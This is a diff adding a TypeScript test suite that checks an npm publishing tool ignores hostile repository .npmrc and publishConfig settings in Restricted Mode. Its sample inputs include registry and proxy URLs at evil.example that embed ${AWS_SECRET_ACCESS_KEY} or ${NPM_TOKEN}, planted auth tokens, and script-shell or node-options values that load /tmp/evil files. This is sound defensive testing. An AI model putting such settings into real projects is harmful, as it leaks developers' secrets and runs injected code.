@@ -1,0 +1,204 @@
+import * as assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import { resolvePublishConfig, type NpmConfigInputs } from '../../src/core/npmConfig';
+import { readPackageManifest } from '../../src/core/packageManifest';
+import { isAllowedInRestrictedMode, isLoopbackHost, transportRisk, withoutCredentials } from '../../src/core/repositoryTrust';
+
+describe('repositoryTrust: what a repository may set in Restricted Mode', () => {
+  const cases: [string, unknown, boolean][] = [
+    ['registry', 'https://npm.acme.example/', true],
+    ['@acme:registry', 'https://npm.acme.example/', true],
+    ['scope', '@acme', true],
+    ['tag', 'next', true],
+    ['access', 'public', true],
+    ['registry', 'https://evil.example/${AWS_SECRET_ACCESS_KEY}/', false],
+    ['@${SCOPE}:registry', 'https://npm.acme.example/', false],
+    ['//evil.example/:_authToken', '${NPM_TOKEN}', false],
+    ['//registry.npmjs.org/:_authToken', 'npm_planted', false],
+    ['_auth', 'dXNlcjpwYXNz', false],
+    ['userconfig', '~/.bashrc', false],
+    ['globalconfig', '/tmp/x', false],
+    ['prefix', '/tmp/x', false],
+    ['strict-ssl', false, false],
+    ['ca', '-----BEGIN CERTIFICATE-----', false],
+    ['cafile', '/tmp/ca.pem', false],
+    ['//evil.example/:certfile', '/tmp/c.pem', false],
+    ['https-proxy', 'http://evil.example:8080/', false],
+    ['proxy', 'http://evil.example:8080/', false],
+    ['script-shell', '/tmp/evil.sh', false],
+    ['node-options', '--require /tmp/evil.js', false],
+  ];
+  for (const [key, value, allowed] of cases) {
+    it(`${key}=${String(value)} → ${allowed ? 'applied' : 'ignored'}`, () => assert.equal(isAllowedInRestrictedMode(key, value), allowed));
+  }
+});
+
+describe('repositoryTrust: transportRisk', () => {
+  const none = {};
+  const cases: [string, Parameters<typeof transportRisk>[0], ReturnType<typeof transportRisk>][] = [
+    ['https, nothing weakened', { registryUrl: 'https://registry.npmjs.org/', credentialAttached: true, repositoryTls: none }, undefined],
+    ['http to another host, with a credential', { registryUrl: 'http://registry.npmjs.org/', credentialAttached: true, repositoryTls: none }, { kind: 'plain-http', host: 'registry.npmjs.org' }],
+    ['http to another host, no credential', { registryUrl: 'http://registry.npmjs.org/', credentialAttached: false, repositoryTls: none }, undefined],
+    ['http to a private address is still the network', { registryUrl: 'http://10.0.0.5:4873/', credentialAttached: true, repositoryTls: none }, { kind: 'plain-http', host: '10.0.0.5:4873' }],
+    ['http to 127.0.0.1', { registryUrl: 'http://127.0.0.1:4873/', credentialAttached: true, repositoryTls: none }, undefined],
+    ['http to 127.0.0.2', { registryUrl: 'http://127.0.0.2:4873/', credentialAttached: true, repositoryTls: none }, undefined],
+    ['http to localhost', { registryUrl: 'http://localhost:4873/', credentialAttached: true, repositoryTls: none }, undefined],
+    ['http to [::1]', { registryUrl: 'http://[::1]:4873/', credentialAttached: true, repositoryTls: none }, undefined],
+    ['http to a name that only starts like loopback', { registryUrl: 'http://127.0.0.1.evil.example/', credentialAttached: true, repositoryTls: none }, { kind: 'plain-http', host: '127.0.0.1.evil.example' }],
+    ['strict-ssl=false from the repository', { registryUrl: 'https://npm.acme.example/', credentialAttached: true, repositoryTls: { strictSsl: false } }, { kind: 'weakened-tls', setting: 'strict-ssl' }],
+    ['the repository\'s own ca', { registryUrl: 'https://npm.acme.example/', credentialAttached: true, repositoryTls: { ca: '-----BEGIN CERTIFICATE-----' } }, { kind: 'weakened-tls', setting: 'ca' }],
+    ['the repository\'s cafile', { registryUrl: 'https://npm.acme.example/', credentialAttached: true, repositoryTls: { cafile: '/ws/ca.pem' } }, { kind: 'weakened-tls', setting: 'cafile' }],
+    ['strict-ssl=true from the repository', { registryUrl: 'https://npm.acme.example/', credentialAttached: true, repositoryTls: { strictSsl: true } }, undefined],
+    ['weakened TLS, no credential', { registryUrl: 'https://npm.acme.example/', credentialAttached: false, repositoryTls: { strictSsl: false } }, undefined],
+  ];
+  for (const [name, input, risk] of cases) it(name, () => assert.deepEqual(transportRisk(input), risk));
+
+  it('isLoopbackHost', () => {
+    for (const host of ['localhost', '127.0.0.1', '127.255.0.9', '[::1]', '::1', 'LOCALHOST']) assert.equal(isLoopbackHost(host), true, host);
+    for (const host of ['128.0.0.1', '127.0.0.256', 'localhost.evil.example', '0.0.0.0', '10.1.2.3', 'example.com', '']) assert.equal(isLoopbackHost(host), false, host);
+  });
+
+  it('withoutCredentials keeps the registry choice and drops every credential', () => {
+    const kept = withoutCredentials({
+      registry: 'https://r.example/', '@a:registry': 'https://a.example/', '//r.example/:_authToken': 'npm_x', _auth: 'x', token: 'x', username: 'u',
+      _password: 'p', otp: '123456', cert: 'c', key: 'k', '//r.example/:certfile': '/c', strictSSL: true,
+    });
+    assert.deepEqual(kept, { registry: 'https://r.example/', '@a:registry': 'https://a.example/', strictSSL: true });
+  });
+});
+
+describe('npmConfig in Restricted Mode: a hostile project .npmrc and publishConfig', () => {
+  let root: string;
+  let home: string;
+  const secretEnv = { NPM_TOKEN: 'env-npm-token-value-1', AWS_SECRET_ACCESS_KEY: 'aws-secret-value-2' };
+
+  beforeEach(async () => {
+    root = await mkdtemp(path.join(os.tmpdir(), 'npa-trust-'));
+    home = path.join(root, 'home');
+    await mkdir(home);
+    await writeFile(path.join(home, '.npmrc'), '//registry.npmjs.org/:_authToken=npm_usersOwnToken0000000000000000\n//npm.acme.example/:_authToken=npm_acmeToken0000000000000000000\n');
+  });
+  afterEach(() => rm(root, { recursive: true, force: true }));
+
+  async function repository(npmrc: string, manifest: Record<string, unknown> = { name: 'demo', version: '1.0.0' }): Promise<string> {
+    const folder = path.join(root, 'repo');
+    await mkdir(folder, { recursive: true });
+    await writeFile(path.join(folder, 'package.json'), JSON.stringify(manifest));
+    await writeFile(path.join(folder, '.npmrc'), npmrc);
+    return folder;
+  }
+
+  function inputs(packageFolder: string, workspaceTrust: 'trusted' | 'restricted'): NpmConfigInputs {
+    return { packageFolder, env: { HOME: home, ...secretEnv }, globalconfig: path.join(home, 'no-global-npmrc'), workspaceTrust };
+  }
+
+  const hostile = 'registry=http://127.0.0.2:4873/\n//127.0.0.2:4873/:_authToken=${NPM_TOKEN}.${AWS_SECRET_ACCESS_KEY}\nuserconfig=~/.bashrc\nstrict-ssl=false\n';
+
+  it('sends no repository credential and expands no variable; names what it left out', async () => {
+    const config = await resolvePublishConfig(inputs(await repository(hostile), 'restricted'));
+    assert.equal(config.registry.url, 'http://127.0.0.2:4873/', 'the registry choice applies');
+    assert.deepEqual(config.credential, { type: 'none' }, 'the user has no credential for that host');
+    const options = JSON.stringify(Object.entries(config.fetchOptions));
+    assert.ok(!options.includes(secretEnv.NPM_TOKEN) && !options.includes(secretEnv.AWS_SECRET_ACCESS_KEY), 'no environment value in the options');
+    assert.deepEqual(config.restricted?.ignored.sort(), ['//127.0.0.2:4873/:_authToken', 'strict-ssl', 'userconfig']);
+    assert.equal(config.userconfig, path.join(home, '.npmrc'));
+    assert.ok(config.configProblems.some((p) => /Restricted Mode: the folder's npm settings are only partly applied/.test(p)));
+  });
+
+  it('the same folder trusted is read as npm reads it (the credential, the moved userconfig named)', async () => {
+    const config = await resolvePublishConfig(inputs(await repository(hostile), 'trusted'));
+    assert.equal(config.credential.type, 'token');
+    assert.equal(config.restricted, undefined);
+    assert.equal(config.userconfig, path.join(home, '.npmrc'), 'writes never follow the repository\'s userconfig');
+    assert.ok(config.configProblems.some((p) => /moves npm's user config/.test(p)));
+  });
+
+  it('a scope mapping picks one of the user\'s registries, and only the user\'s credential for it goes there', async () => {
+    const folder = await repository('@acme:registry=https://npm.acme.example/\n', { name: '@acme/lib', version: '1.0.0' });
+    const config = await resolvePublishConfig(inputs(folder, 'restricted'));
+    assert.equal(config.registry.url, 'https://npm.acme.example/');
+    assert.equal(config.credential.type === 'token' && config.credential.masked, 'npm_acme...0000');
+    assert.deepEqual(config.restricted?.ignored, []);
+    assert.equal(config.transportRisk, undefined);
+  });
+
+  it('an http: downgrade of the user\'s registry withholds the credential, in any mode', async () => {
+    for (const trust of ['restricted', 'trusted'] as const) {
+      const config = await resolvePublishConfig(inputs(await repository('registry=http://registry.npmjs.org/\n'), trust));
+      assert.deepEqual(config.transportRisk && { kind: config.transportRisk.kind, key: config.transportRisk.source?.key }, { kind: 'plain-http', key: 'registry' }, trust);
+    }
+    const viaPublishConfig = await resolvePublishConfig(inputs(await repository('', { name: 'demo', version: '1.0.0', publishConfig: { registry: 'http://registry.npmjs.org/' } }), 'restricted'));
+    assert.equal(viaPublishConfig.transportRisk?.kind, 'plain-http');
+  });
+
+  it('TLS weakened by the repository: ignored in Restricted Mode, a withheld credential when trusted', async () => {
+    const folder = await repository('strict-ssl=false\n', { name: 'demo', version: '1.0.0', publishConfig: { 'strict-ssl': false } });
+    const restricted = await resolvePublishConfig(inputs(folder, 'restricted'));
+    assert.equal(restricted.transportRisk, undefined);
+    assert.notEqual(restricted.fetchOptions.strictSSL, false);
+    assert.deepEqual(restricted.restricted?.ignored.sort(), ['publishConfig.strict-ssl', 'strict-ssl']);
+    const trusted = await resolvePublishConfig(inputs(folder, 'trusted'));
+    assert.deepEqual(trusted.transportRisk && { kind: trusted.transportRisk.kind, setting: trusted.transportRisk.kind === 'weakened-tls' && trusted.transportRisk.setting }, { kind: 'weakened-tls', setting: 'strict-ssl' });
+  });
+
+  it('publishConfig credentials are not applied in Restricted Mode', async () => {
+    const folder = await repository('', { name: 'demo', version: '1.0.0', publishConfig: { registry: 'https://npm.acme.example/', '//npm.acme.example/:_authToken': 'npm_plantedInPackageJson000000000' } });
+    const config = await resolvePublishConfig(inputs(folder, 'restricted'));
+    assert.equal(config.credential.type === 'token' && config.credential.masked, 'npm_acme...0000', 'the user\'s own token, not the planted one');
+    assert.deepEqual(config.restricted?.ignored, ['publishConfig.//npm.acme.example/:_authToken']);
+  });
+});
+
+describe('config files that are not files', () => {
+  let root: string;
+  beforeEach(async () => (root = await mkdtemp(path.join(os.tmpdir(), 'npa-special-'))));
+  afterEach(() => rm(root, { recursive: true, force: true }));
+
+  async function packageWith(npmrc: (file: string) => Promise<void>): Promise<NpmConfigInputs> {
+    const folder = path.join(root, 'repo');
+    await mkdir(folder, { recursive: true });
+    await writeFile(path.join(folder, 'package.json'), '{"name":"demo","version":"1.0.0"}');
+    await npmrc(path.join(folder, '.npmrc'));
+    return { packageFolder: folder, env: { HOME: root }, userconfig: path.join(root, 'user-npmrc'), globalconfig: path.join(root, 'global-npmrc') };
+  }
+
+  const cases: [string, (file: string) => Promise<void>, RegExp][] = [
+    ['a FIFO', async (file) => void execFileSync('mkfifo', [file]), /named pipe \(FIFO\)/],
+    ['/dev/zero behind a symlink', (file) => symlink('/dev/zero', file), /a device/],
+    ['a multi-megabyte file', (file) => writeFile(file, `# ${'x'.repeat(3 * 1024 * 1024)}\n`), /larger than 1024 KB/],
+  ];
+  for (const [what, make, problem] of cases) {
+    it(`a project .npmrc that is ${what} is a named problem, not a hung refresh`, async () => {
+      const config = await resolvePublishConfig(await packageWith(make));
+      assert.ok(config.configProblems.some((p) => problem.test(p)), config.configProblems.join('\n'));
+      assert.deepEqual(config.credential.type, 'none');
+    });
+  }
+
+  it('a user npmrc that is a FIFO (as the repository cannot make it, but a user can)', async () => {
+    const inputs = await packageWith(async () => undefined);
+    execFileSync('mkfifo', [inputs.userconfig!]);
+    const config = await resolvePublishConfig(inputs);
+    assert.ok(config.configProblems.some((p) => /named pipe/.test(p)), config.configProblems.join('\n'));
+  });
+
+  it('a cafile that is a FIFO', async () => {
+    const inputs = await packageWith(async (file) => {
+      execFileSync('mkfifo', [path.join(path.dirname(file), 'ca.pem')]);
+      await writeFile(file, `cafile=${path.join(path.dirname(file), 'ca.pem')}\n`);
+    });
+    const config = await resolvePublishConfig(inputs);
+    assert.ok(config.configProblems.some((p) => /cafile.*named pipe/.test(p)), config.configProblems.join('\n'));
+  });
+
+  it('a package.json that is a FIFO', async () => {
+    const folder = path.join(root, 'fifo-manifest');
+    await mkdir(folder);
+    execFileSync('mkfifo', [path.join(folder, 'package.json')]);
+    const manifest = await readPackageManifest(folder);
+    assert.match(manifest.parseError ?? '', /package\.json cannot be read: it is a named pipe/);
+  });
+});
